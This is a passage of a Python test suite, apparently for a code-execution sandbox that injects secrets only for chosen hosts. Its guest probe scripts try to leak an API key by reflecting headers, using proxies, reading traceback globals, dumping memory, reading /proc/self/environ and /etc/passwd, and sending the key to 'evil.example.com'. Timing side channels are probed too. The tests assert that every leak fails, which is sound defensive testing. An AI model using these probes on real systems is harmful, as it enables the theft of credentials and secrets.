found["compressed"] = ask("/mirror", Authorization=key, Accept_Encoding="gzip, br")
found["another header"] = ask("/mirror", X_Other=key, Cookie=key, Referer=key)
found["a body"] = ask("/mirror", data=key.encode(), Authorization=key)
found["without TLS"] = ask("/mirror", http, Authorization=key)
found["TRACE"] = ask("/mirror", Authorization=key, Connection="authorization")
for method in ("TRACE", "OPTIONS", "PUT"):
    request = urllib.request.Request(https + "/mirror", method=method, headers={"Authorization": key})
    try:
        found[method] = urllib.request.urlopen(request).read().decode("latin-1")
    except OSError as error:
        found[method] = repr(error)
for name in ("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY"):
    os.environ[name] = http
found["a proxy of the guest's"] = ask("/mirror", Authorization=key, Proxy_Authorization=key)
for name in ("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY"):
    del os.environ[name]
try:
    raise RuntimeError(ask("/mirror", Authorization=key))
except RuntimeError as error:
    found["an error"] = repr(error) + repr(error.__traceback__.tb_frame.f_globals)
found["memory"] = " ".join(repr(thing) for thing in gc.get_objects() if type(thing) in (str, bytes, dict, list))[:10**7]
for path in ("/proc/self/environ", "/proc/self/mem", "/etc/passwd", "/tmp"):
    try:
        found[path] = open(path, "rb").read(100_000).decode("latin-1")
    except OSError as error:
        found[path] = repr(error)
print(found["reflected in pieces of 7"], ask("/mirror", Authorization=key), file=sys.stderr)
print(ask("/mirror", Authorization=key))
"""

FORMS = [VALUE, VALUE.replace("/", "%2F").replace("+", "%2B"), VALUE.encode().hex(), VALUE[:16], VALUE[-16:]]


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_no_way_to_read_a_secret_is_found(
    server: HostileServer, tls_server: HostileServer, servers: Servers, isolation: Isolation
) -> None:
    server.visits, tls_server.visits = [], []
    network = _secretive(servers, max_bytes_in=GIB)
    code = f"""{LOOK}
needles = {FORMS!r}
leaks = [name for name, text in found.items() for needle in needles if "".join(needle) in text]
[sorted(found), leaks]
"""
    # The needles are built so that the guest's own source does not hold them.
    code = code.replace(repr(FORMS), "[''.join(map(chr, codes)) for codes in coded]")
    inputs = {**servers.inputs, "coded": [[ord(char) for char in form] for form in FORMS]}
    result = run_code(code, inputs, network=network, isolation=isolation)
    assert result.error is None, result.error
    places, leaks = result.value
    assert len(places) > 20
    assert leaks == []
    output = "".join([*(result.stdout or ()), *(result.stderr or ())])
    assert "*" * len(VALUE) in output
    assert not any(form in output for form in FORMS)
    arrived = b"".join(visit.received for visit in tls_server.ended_visits())
    assert arrived.count(VALUE.encode()) > 10  # the attack is one: the server has it
    assert VALUE.encode() not in b"".join(visit.received for visit in server.ended_visits())
    told = json.dumps([request.model_dump() for request in result.requests]) + repr(result.connections)
    assert VALUE not in told


def test_a_secret_is_in_no_error_event_log_or_record(
    servers: Servers, caplog: pytest.LogCaptureFixture, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    seen: list[Request] = []
    tape = tmp_path / "tape.json"
    network = _secretive(servers, on_request=seen.append, record=tape)
    code = f"{LOOK.partition('found[')[0]}\nraise ValueError(ask('/mirror', Authorization=key))"
    told: list[str] = []
    with caplog.at_level(logging.DEBUG):
        result = run_code(code, servers.inputs, network=network, on_event=lambda event: told.append(repr(event)))
    assert result.error is not None
    assert "*" * len(VALUE) in result.error.message
    output = capfd.readouterr()
    for text in (str(result), repr(told), caplog.text, tape.read_text(), repr(seen), output.out, output.err):
        assert VALUE not in text
    assert seen
    assert VALUE not in repr(network)


def test_a_secret_reaches_no_host_but_its_own(island: Island) -> None:
    island.names(api_example_com=[[PUBLIC]], other_example_com=[[PUBLIC_6]], evil_example_com=[["8.8.8.8"]])
    code = """
import os, urllib.request
key = os.environ["API_KEY"]
for url in ("https://api.example.com/mirror", "https://other.example.com/mirror", "http://api.example.com/mirror",
            "http://evil.example.com/mirror", "https://api.example.com/to/http://evil.example.com/mirror",
            "https://api.example.com/to/https://other.example.com/mirror?key=" + key,
            "https://api.example.com/to/http://api.example.com/mirror?key=" + key):
    try:
        urllib.request.urlopen(urllib.request.Request(url, headers={"Authorization": key})).read()
    except OSError as error:
        print(url, error)
"""
    secret = Secret(VALUE, hosts=["api.example.com"], headers=["authorization"], query=["key"])
    result = island.run(code, secrets={"API_KEY": secret})
    assert result.error is None, result.error
    with_it = {(v.address, v.port) for v in island.visits() if VALUE.encode() in v.received}
    assert with_it == {(PUBLIC, 443)}


def test_what_is_refused_tells_nothing_by_the_time_that_it_takes(island: Island) -> None:
    island.names(known_inside_org=[[PUBLIC]])
    code = """
import socket, time
def cost(host):
    times = []
    for _ in range(200):
        began = time.perf_counter_ns()
        try:
            socket.create_connection((host, 80))
        except PermissionError:
            pass
        times.append(time.perf_counter_ns() - began)
    return sorted(times)[100]
[cost("known.inside.org"), cost("other.inside.org")]
"""
    result = island.run(code, allow=["api.example.com"])
    assert result.error is None, result.error
    known, unknown = result.value
    assert 0.4 < known / unknown < 2.5
    assert island.asked() == set()


# --- Measures -------------------------------------------------------------------------------------------


def _resident() -> int:
    """Bytes of memory of this process; 0 where that is not told."""
    gc.collect()
    if not sys.platform.startswith("linux"):
        return 0
    return int(Path("/proc/self/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def _descriptors() -> int:
    return len(os.listdir("/proc/self/fd")) if os.path.exists("/proc/self/fd") else 0
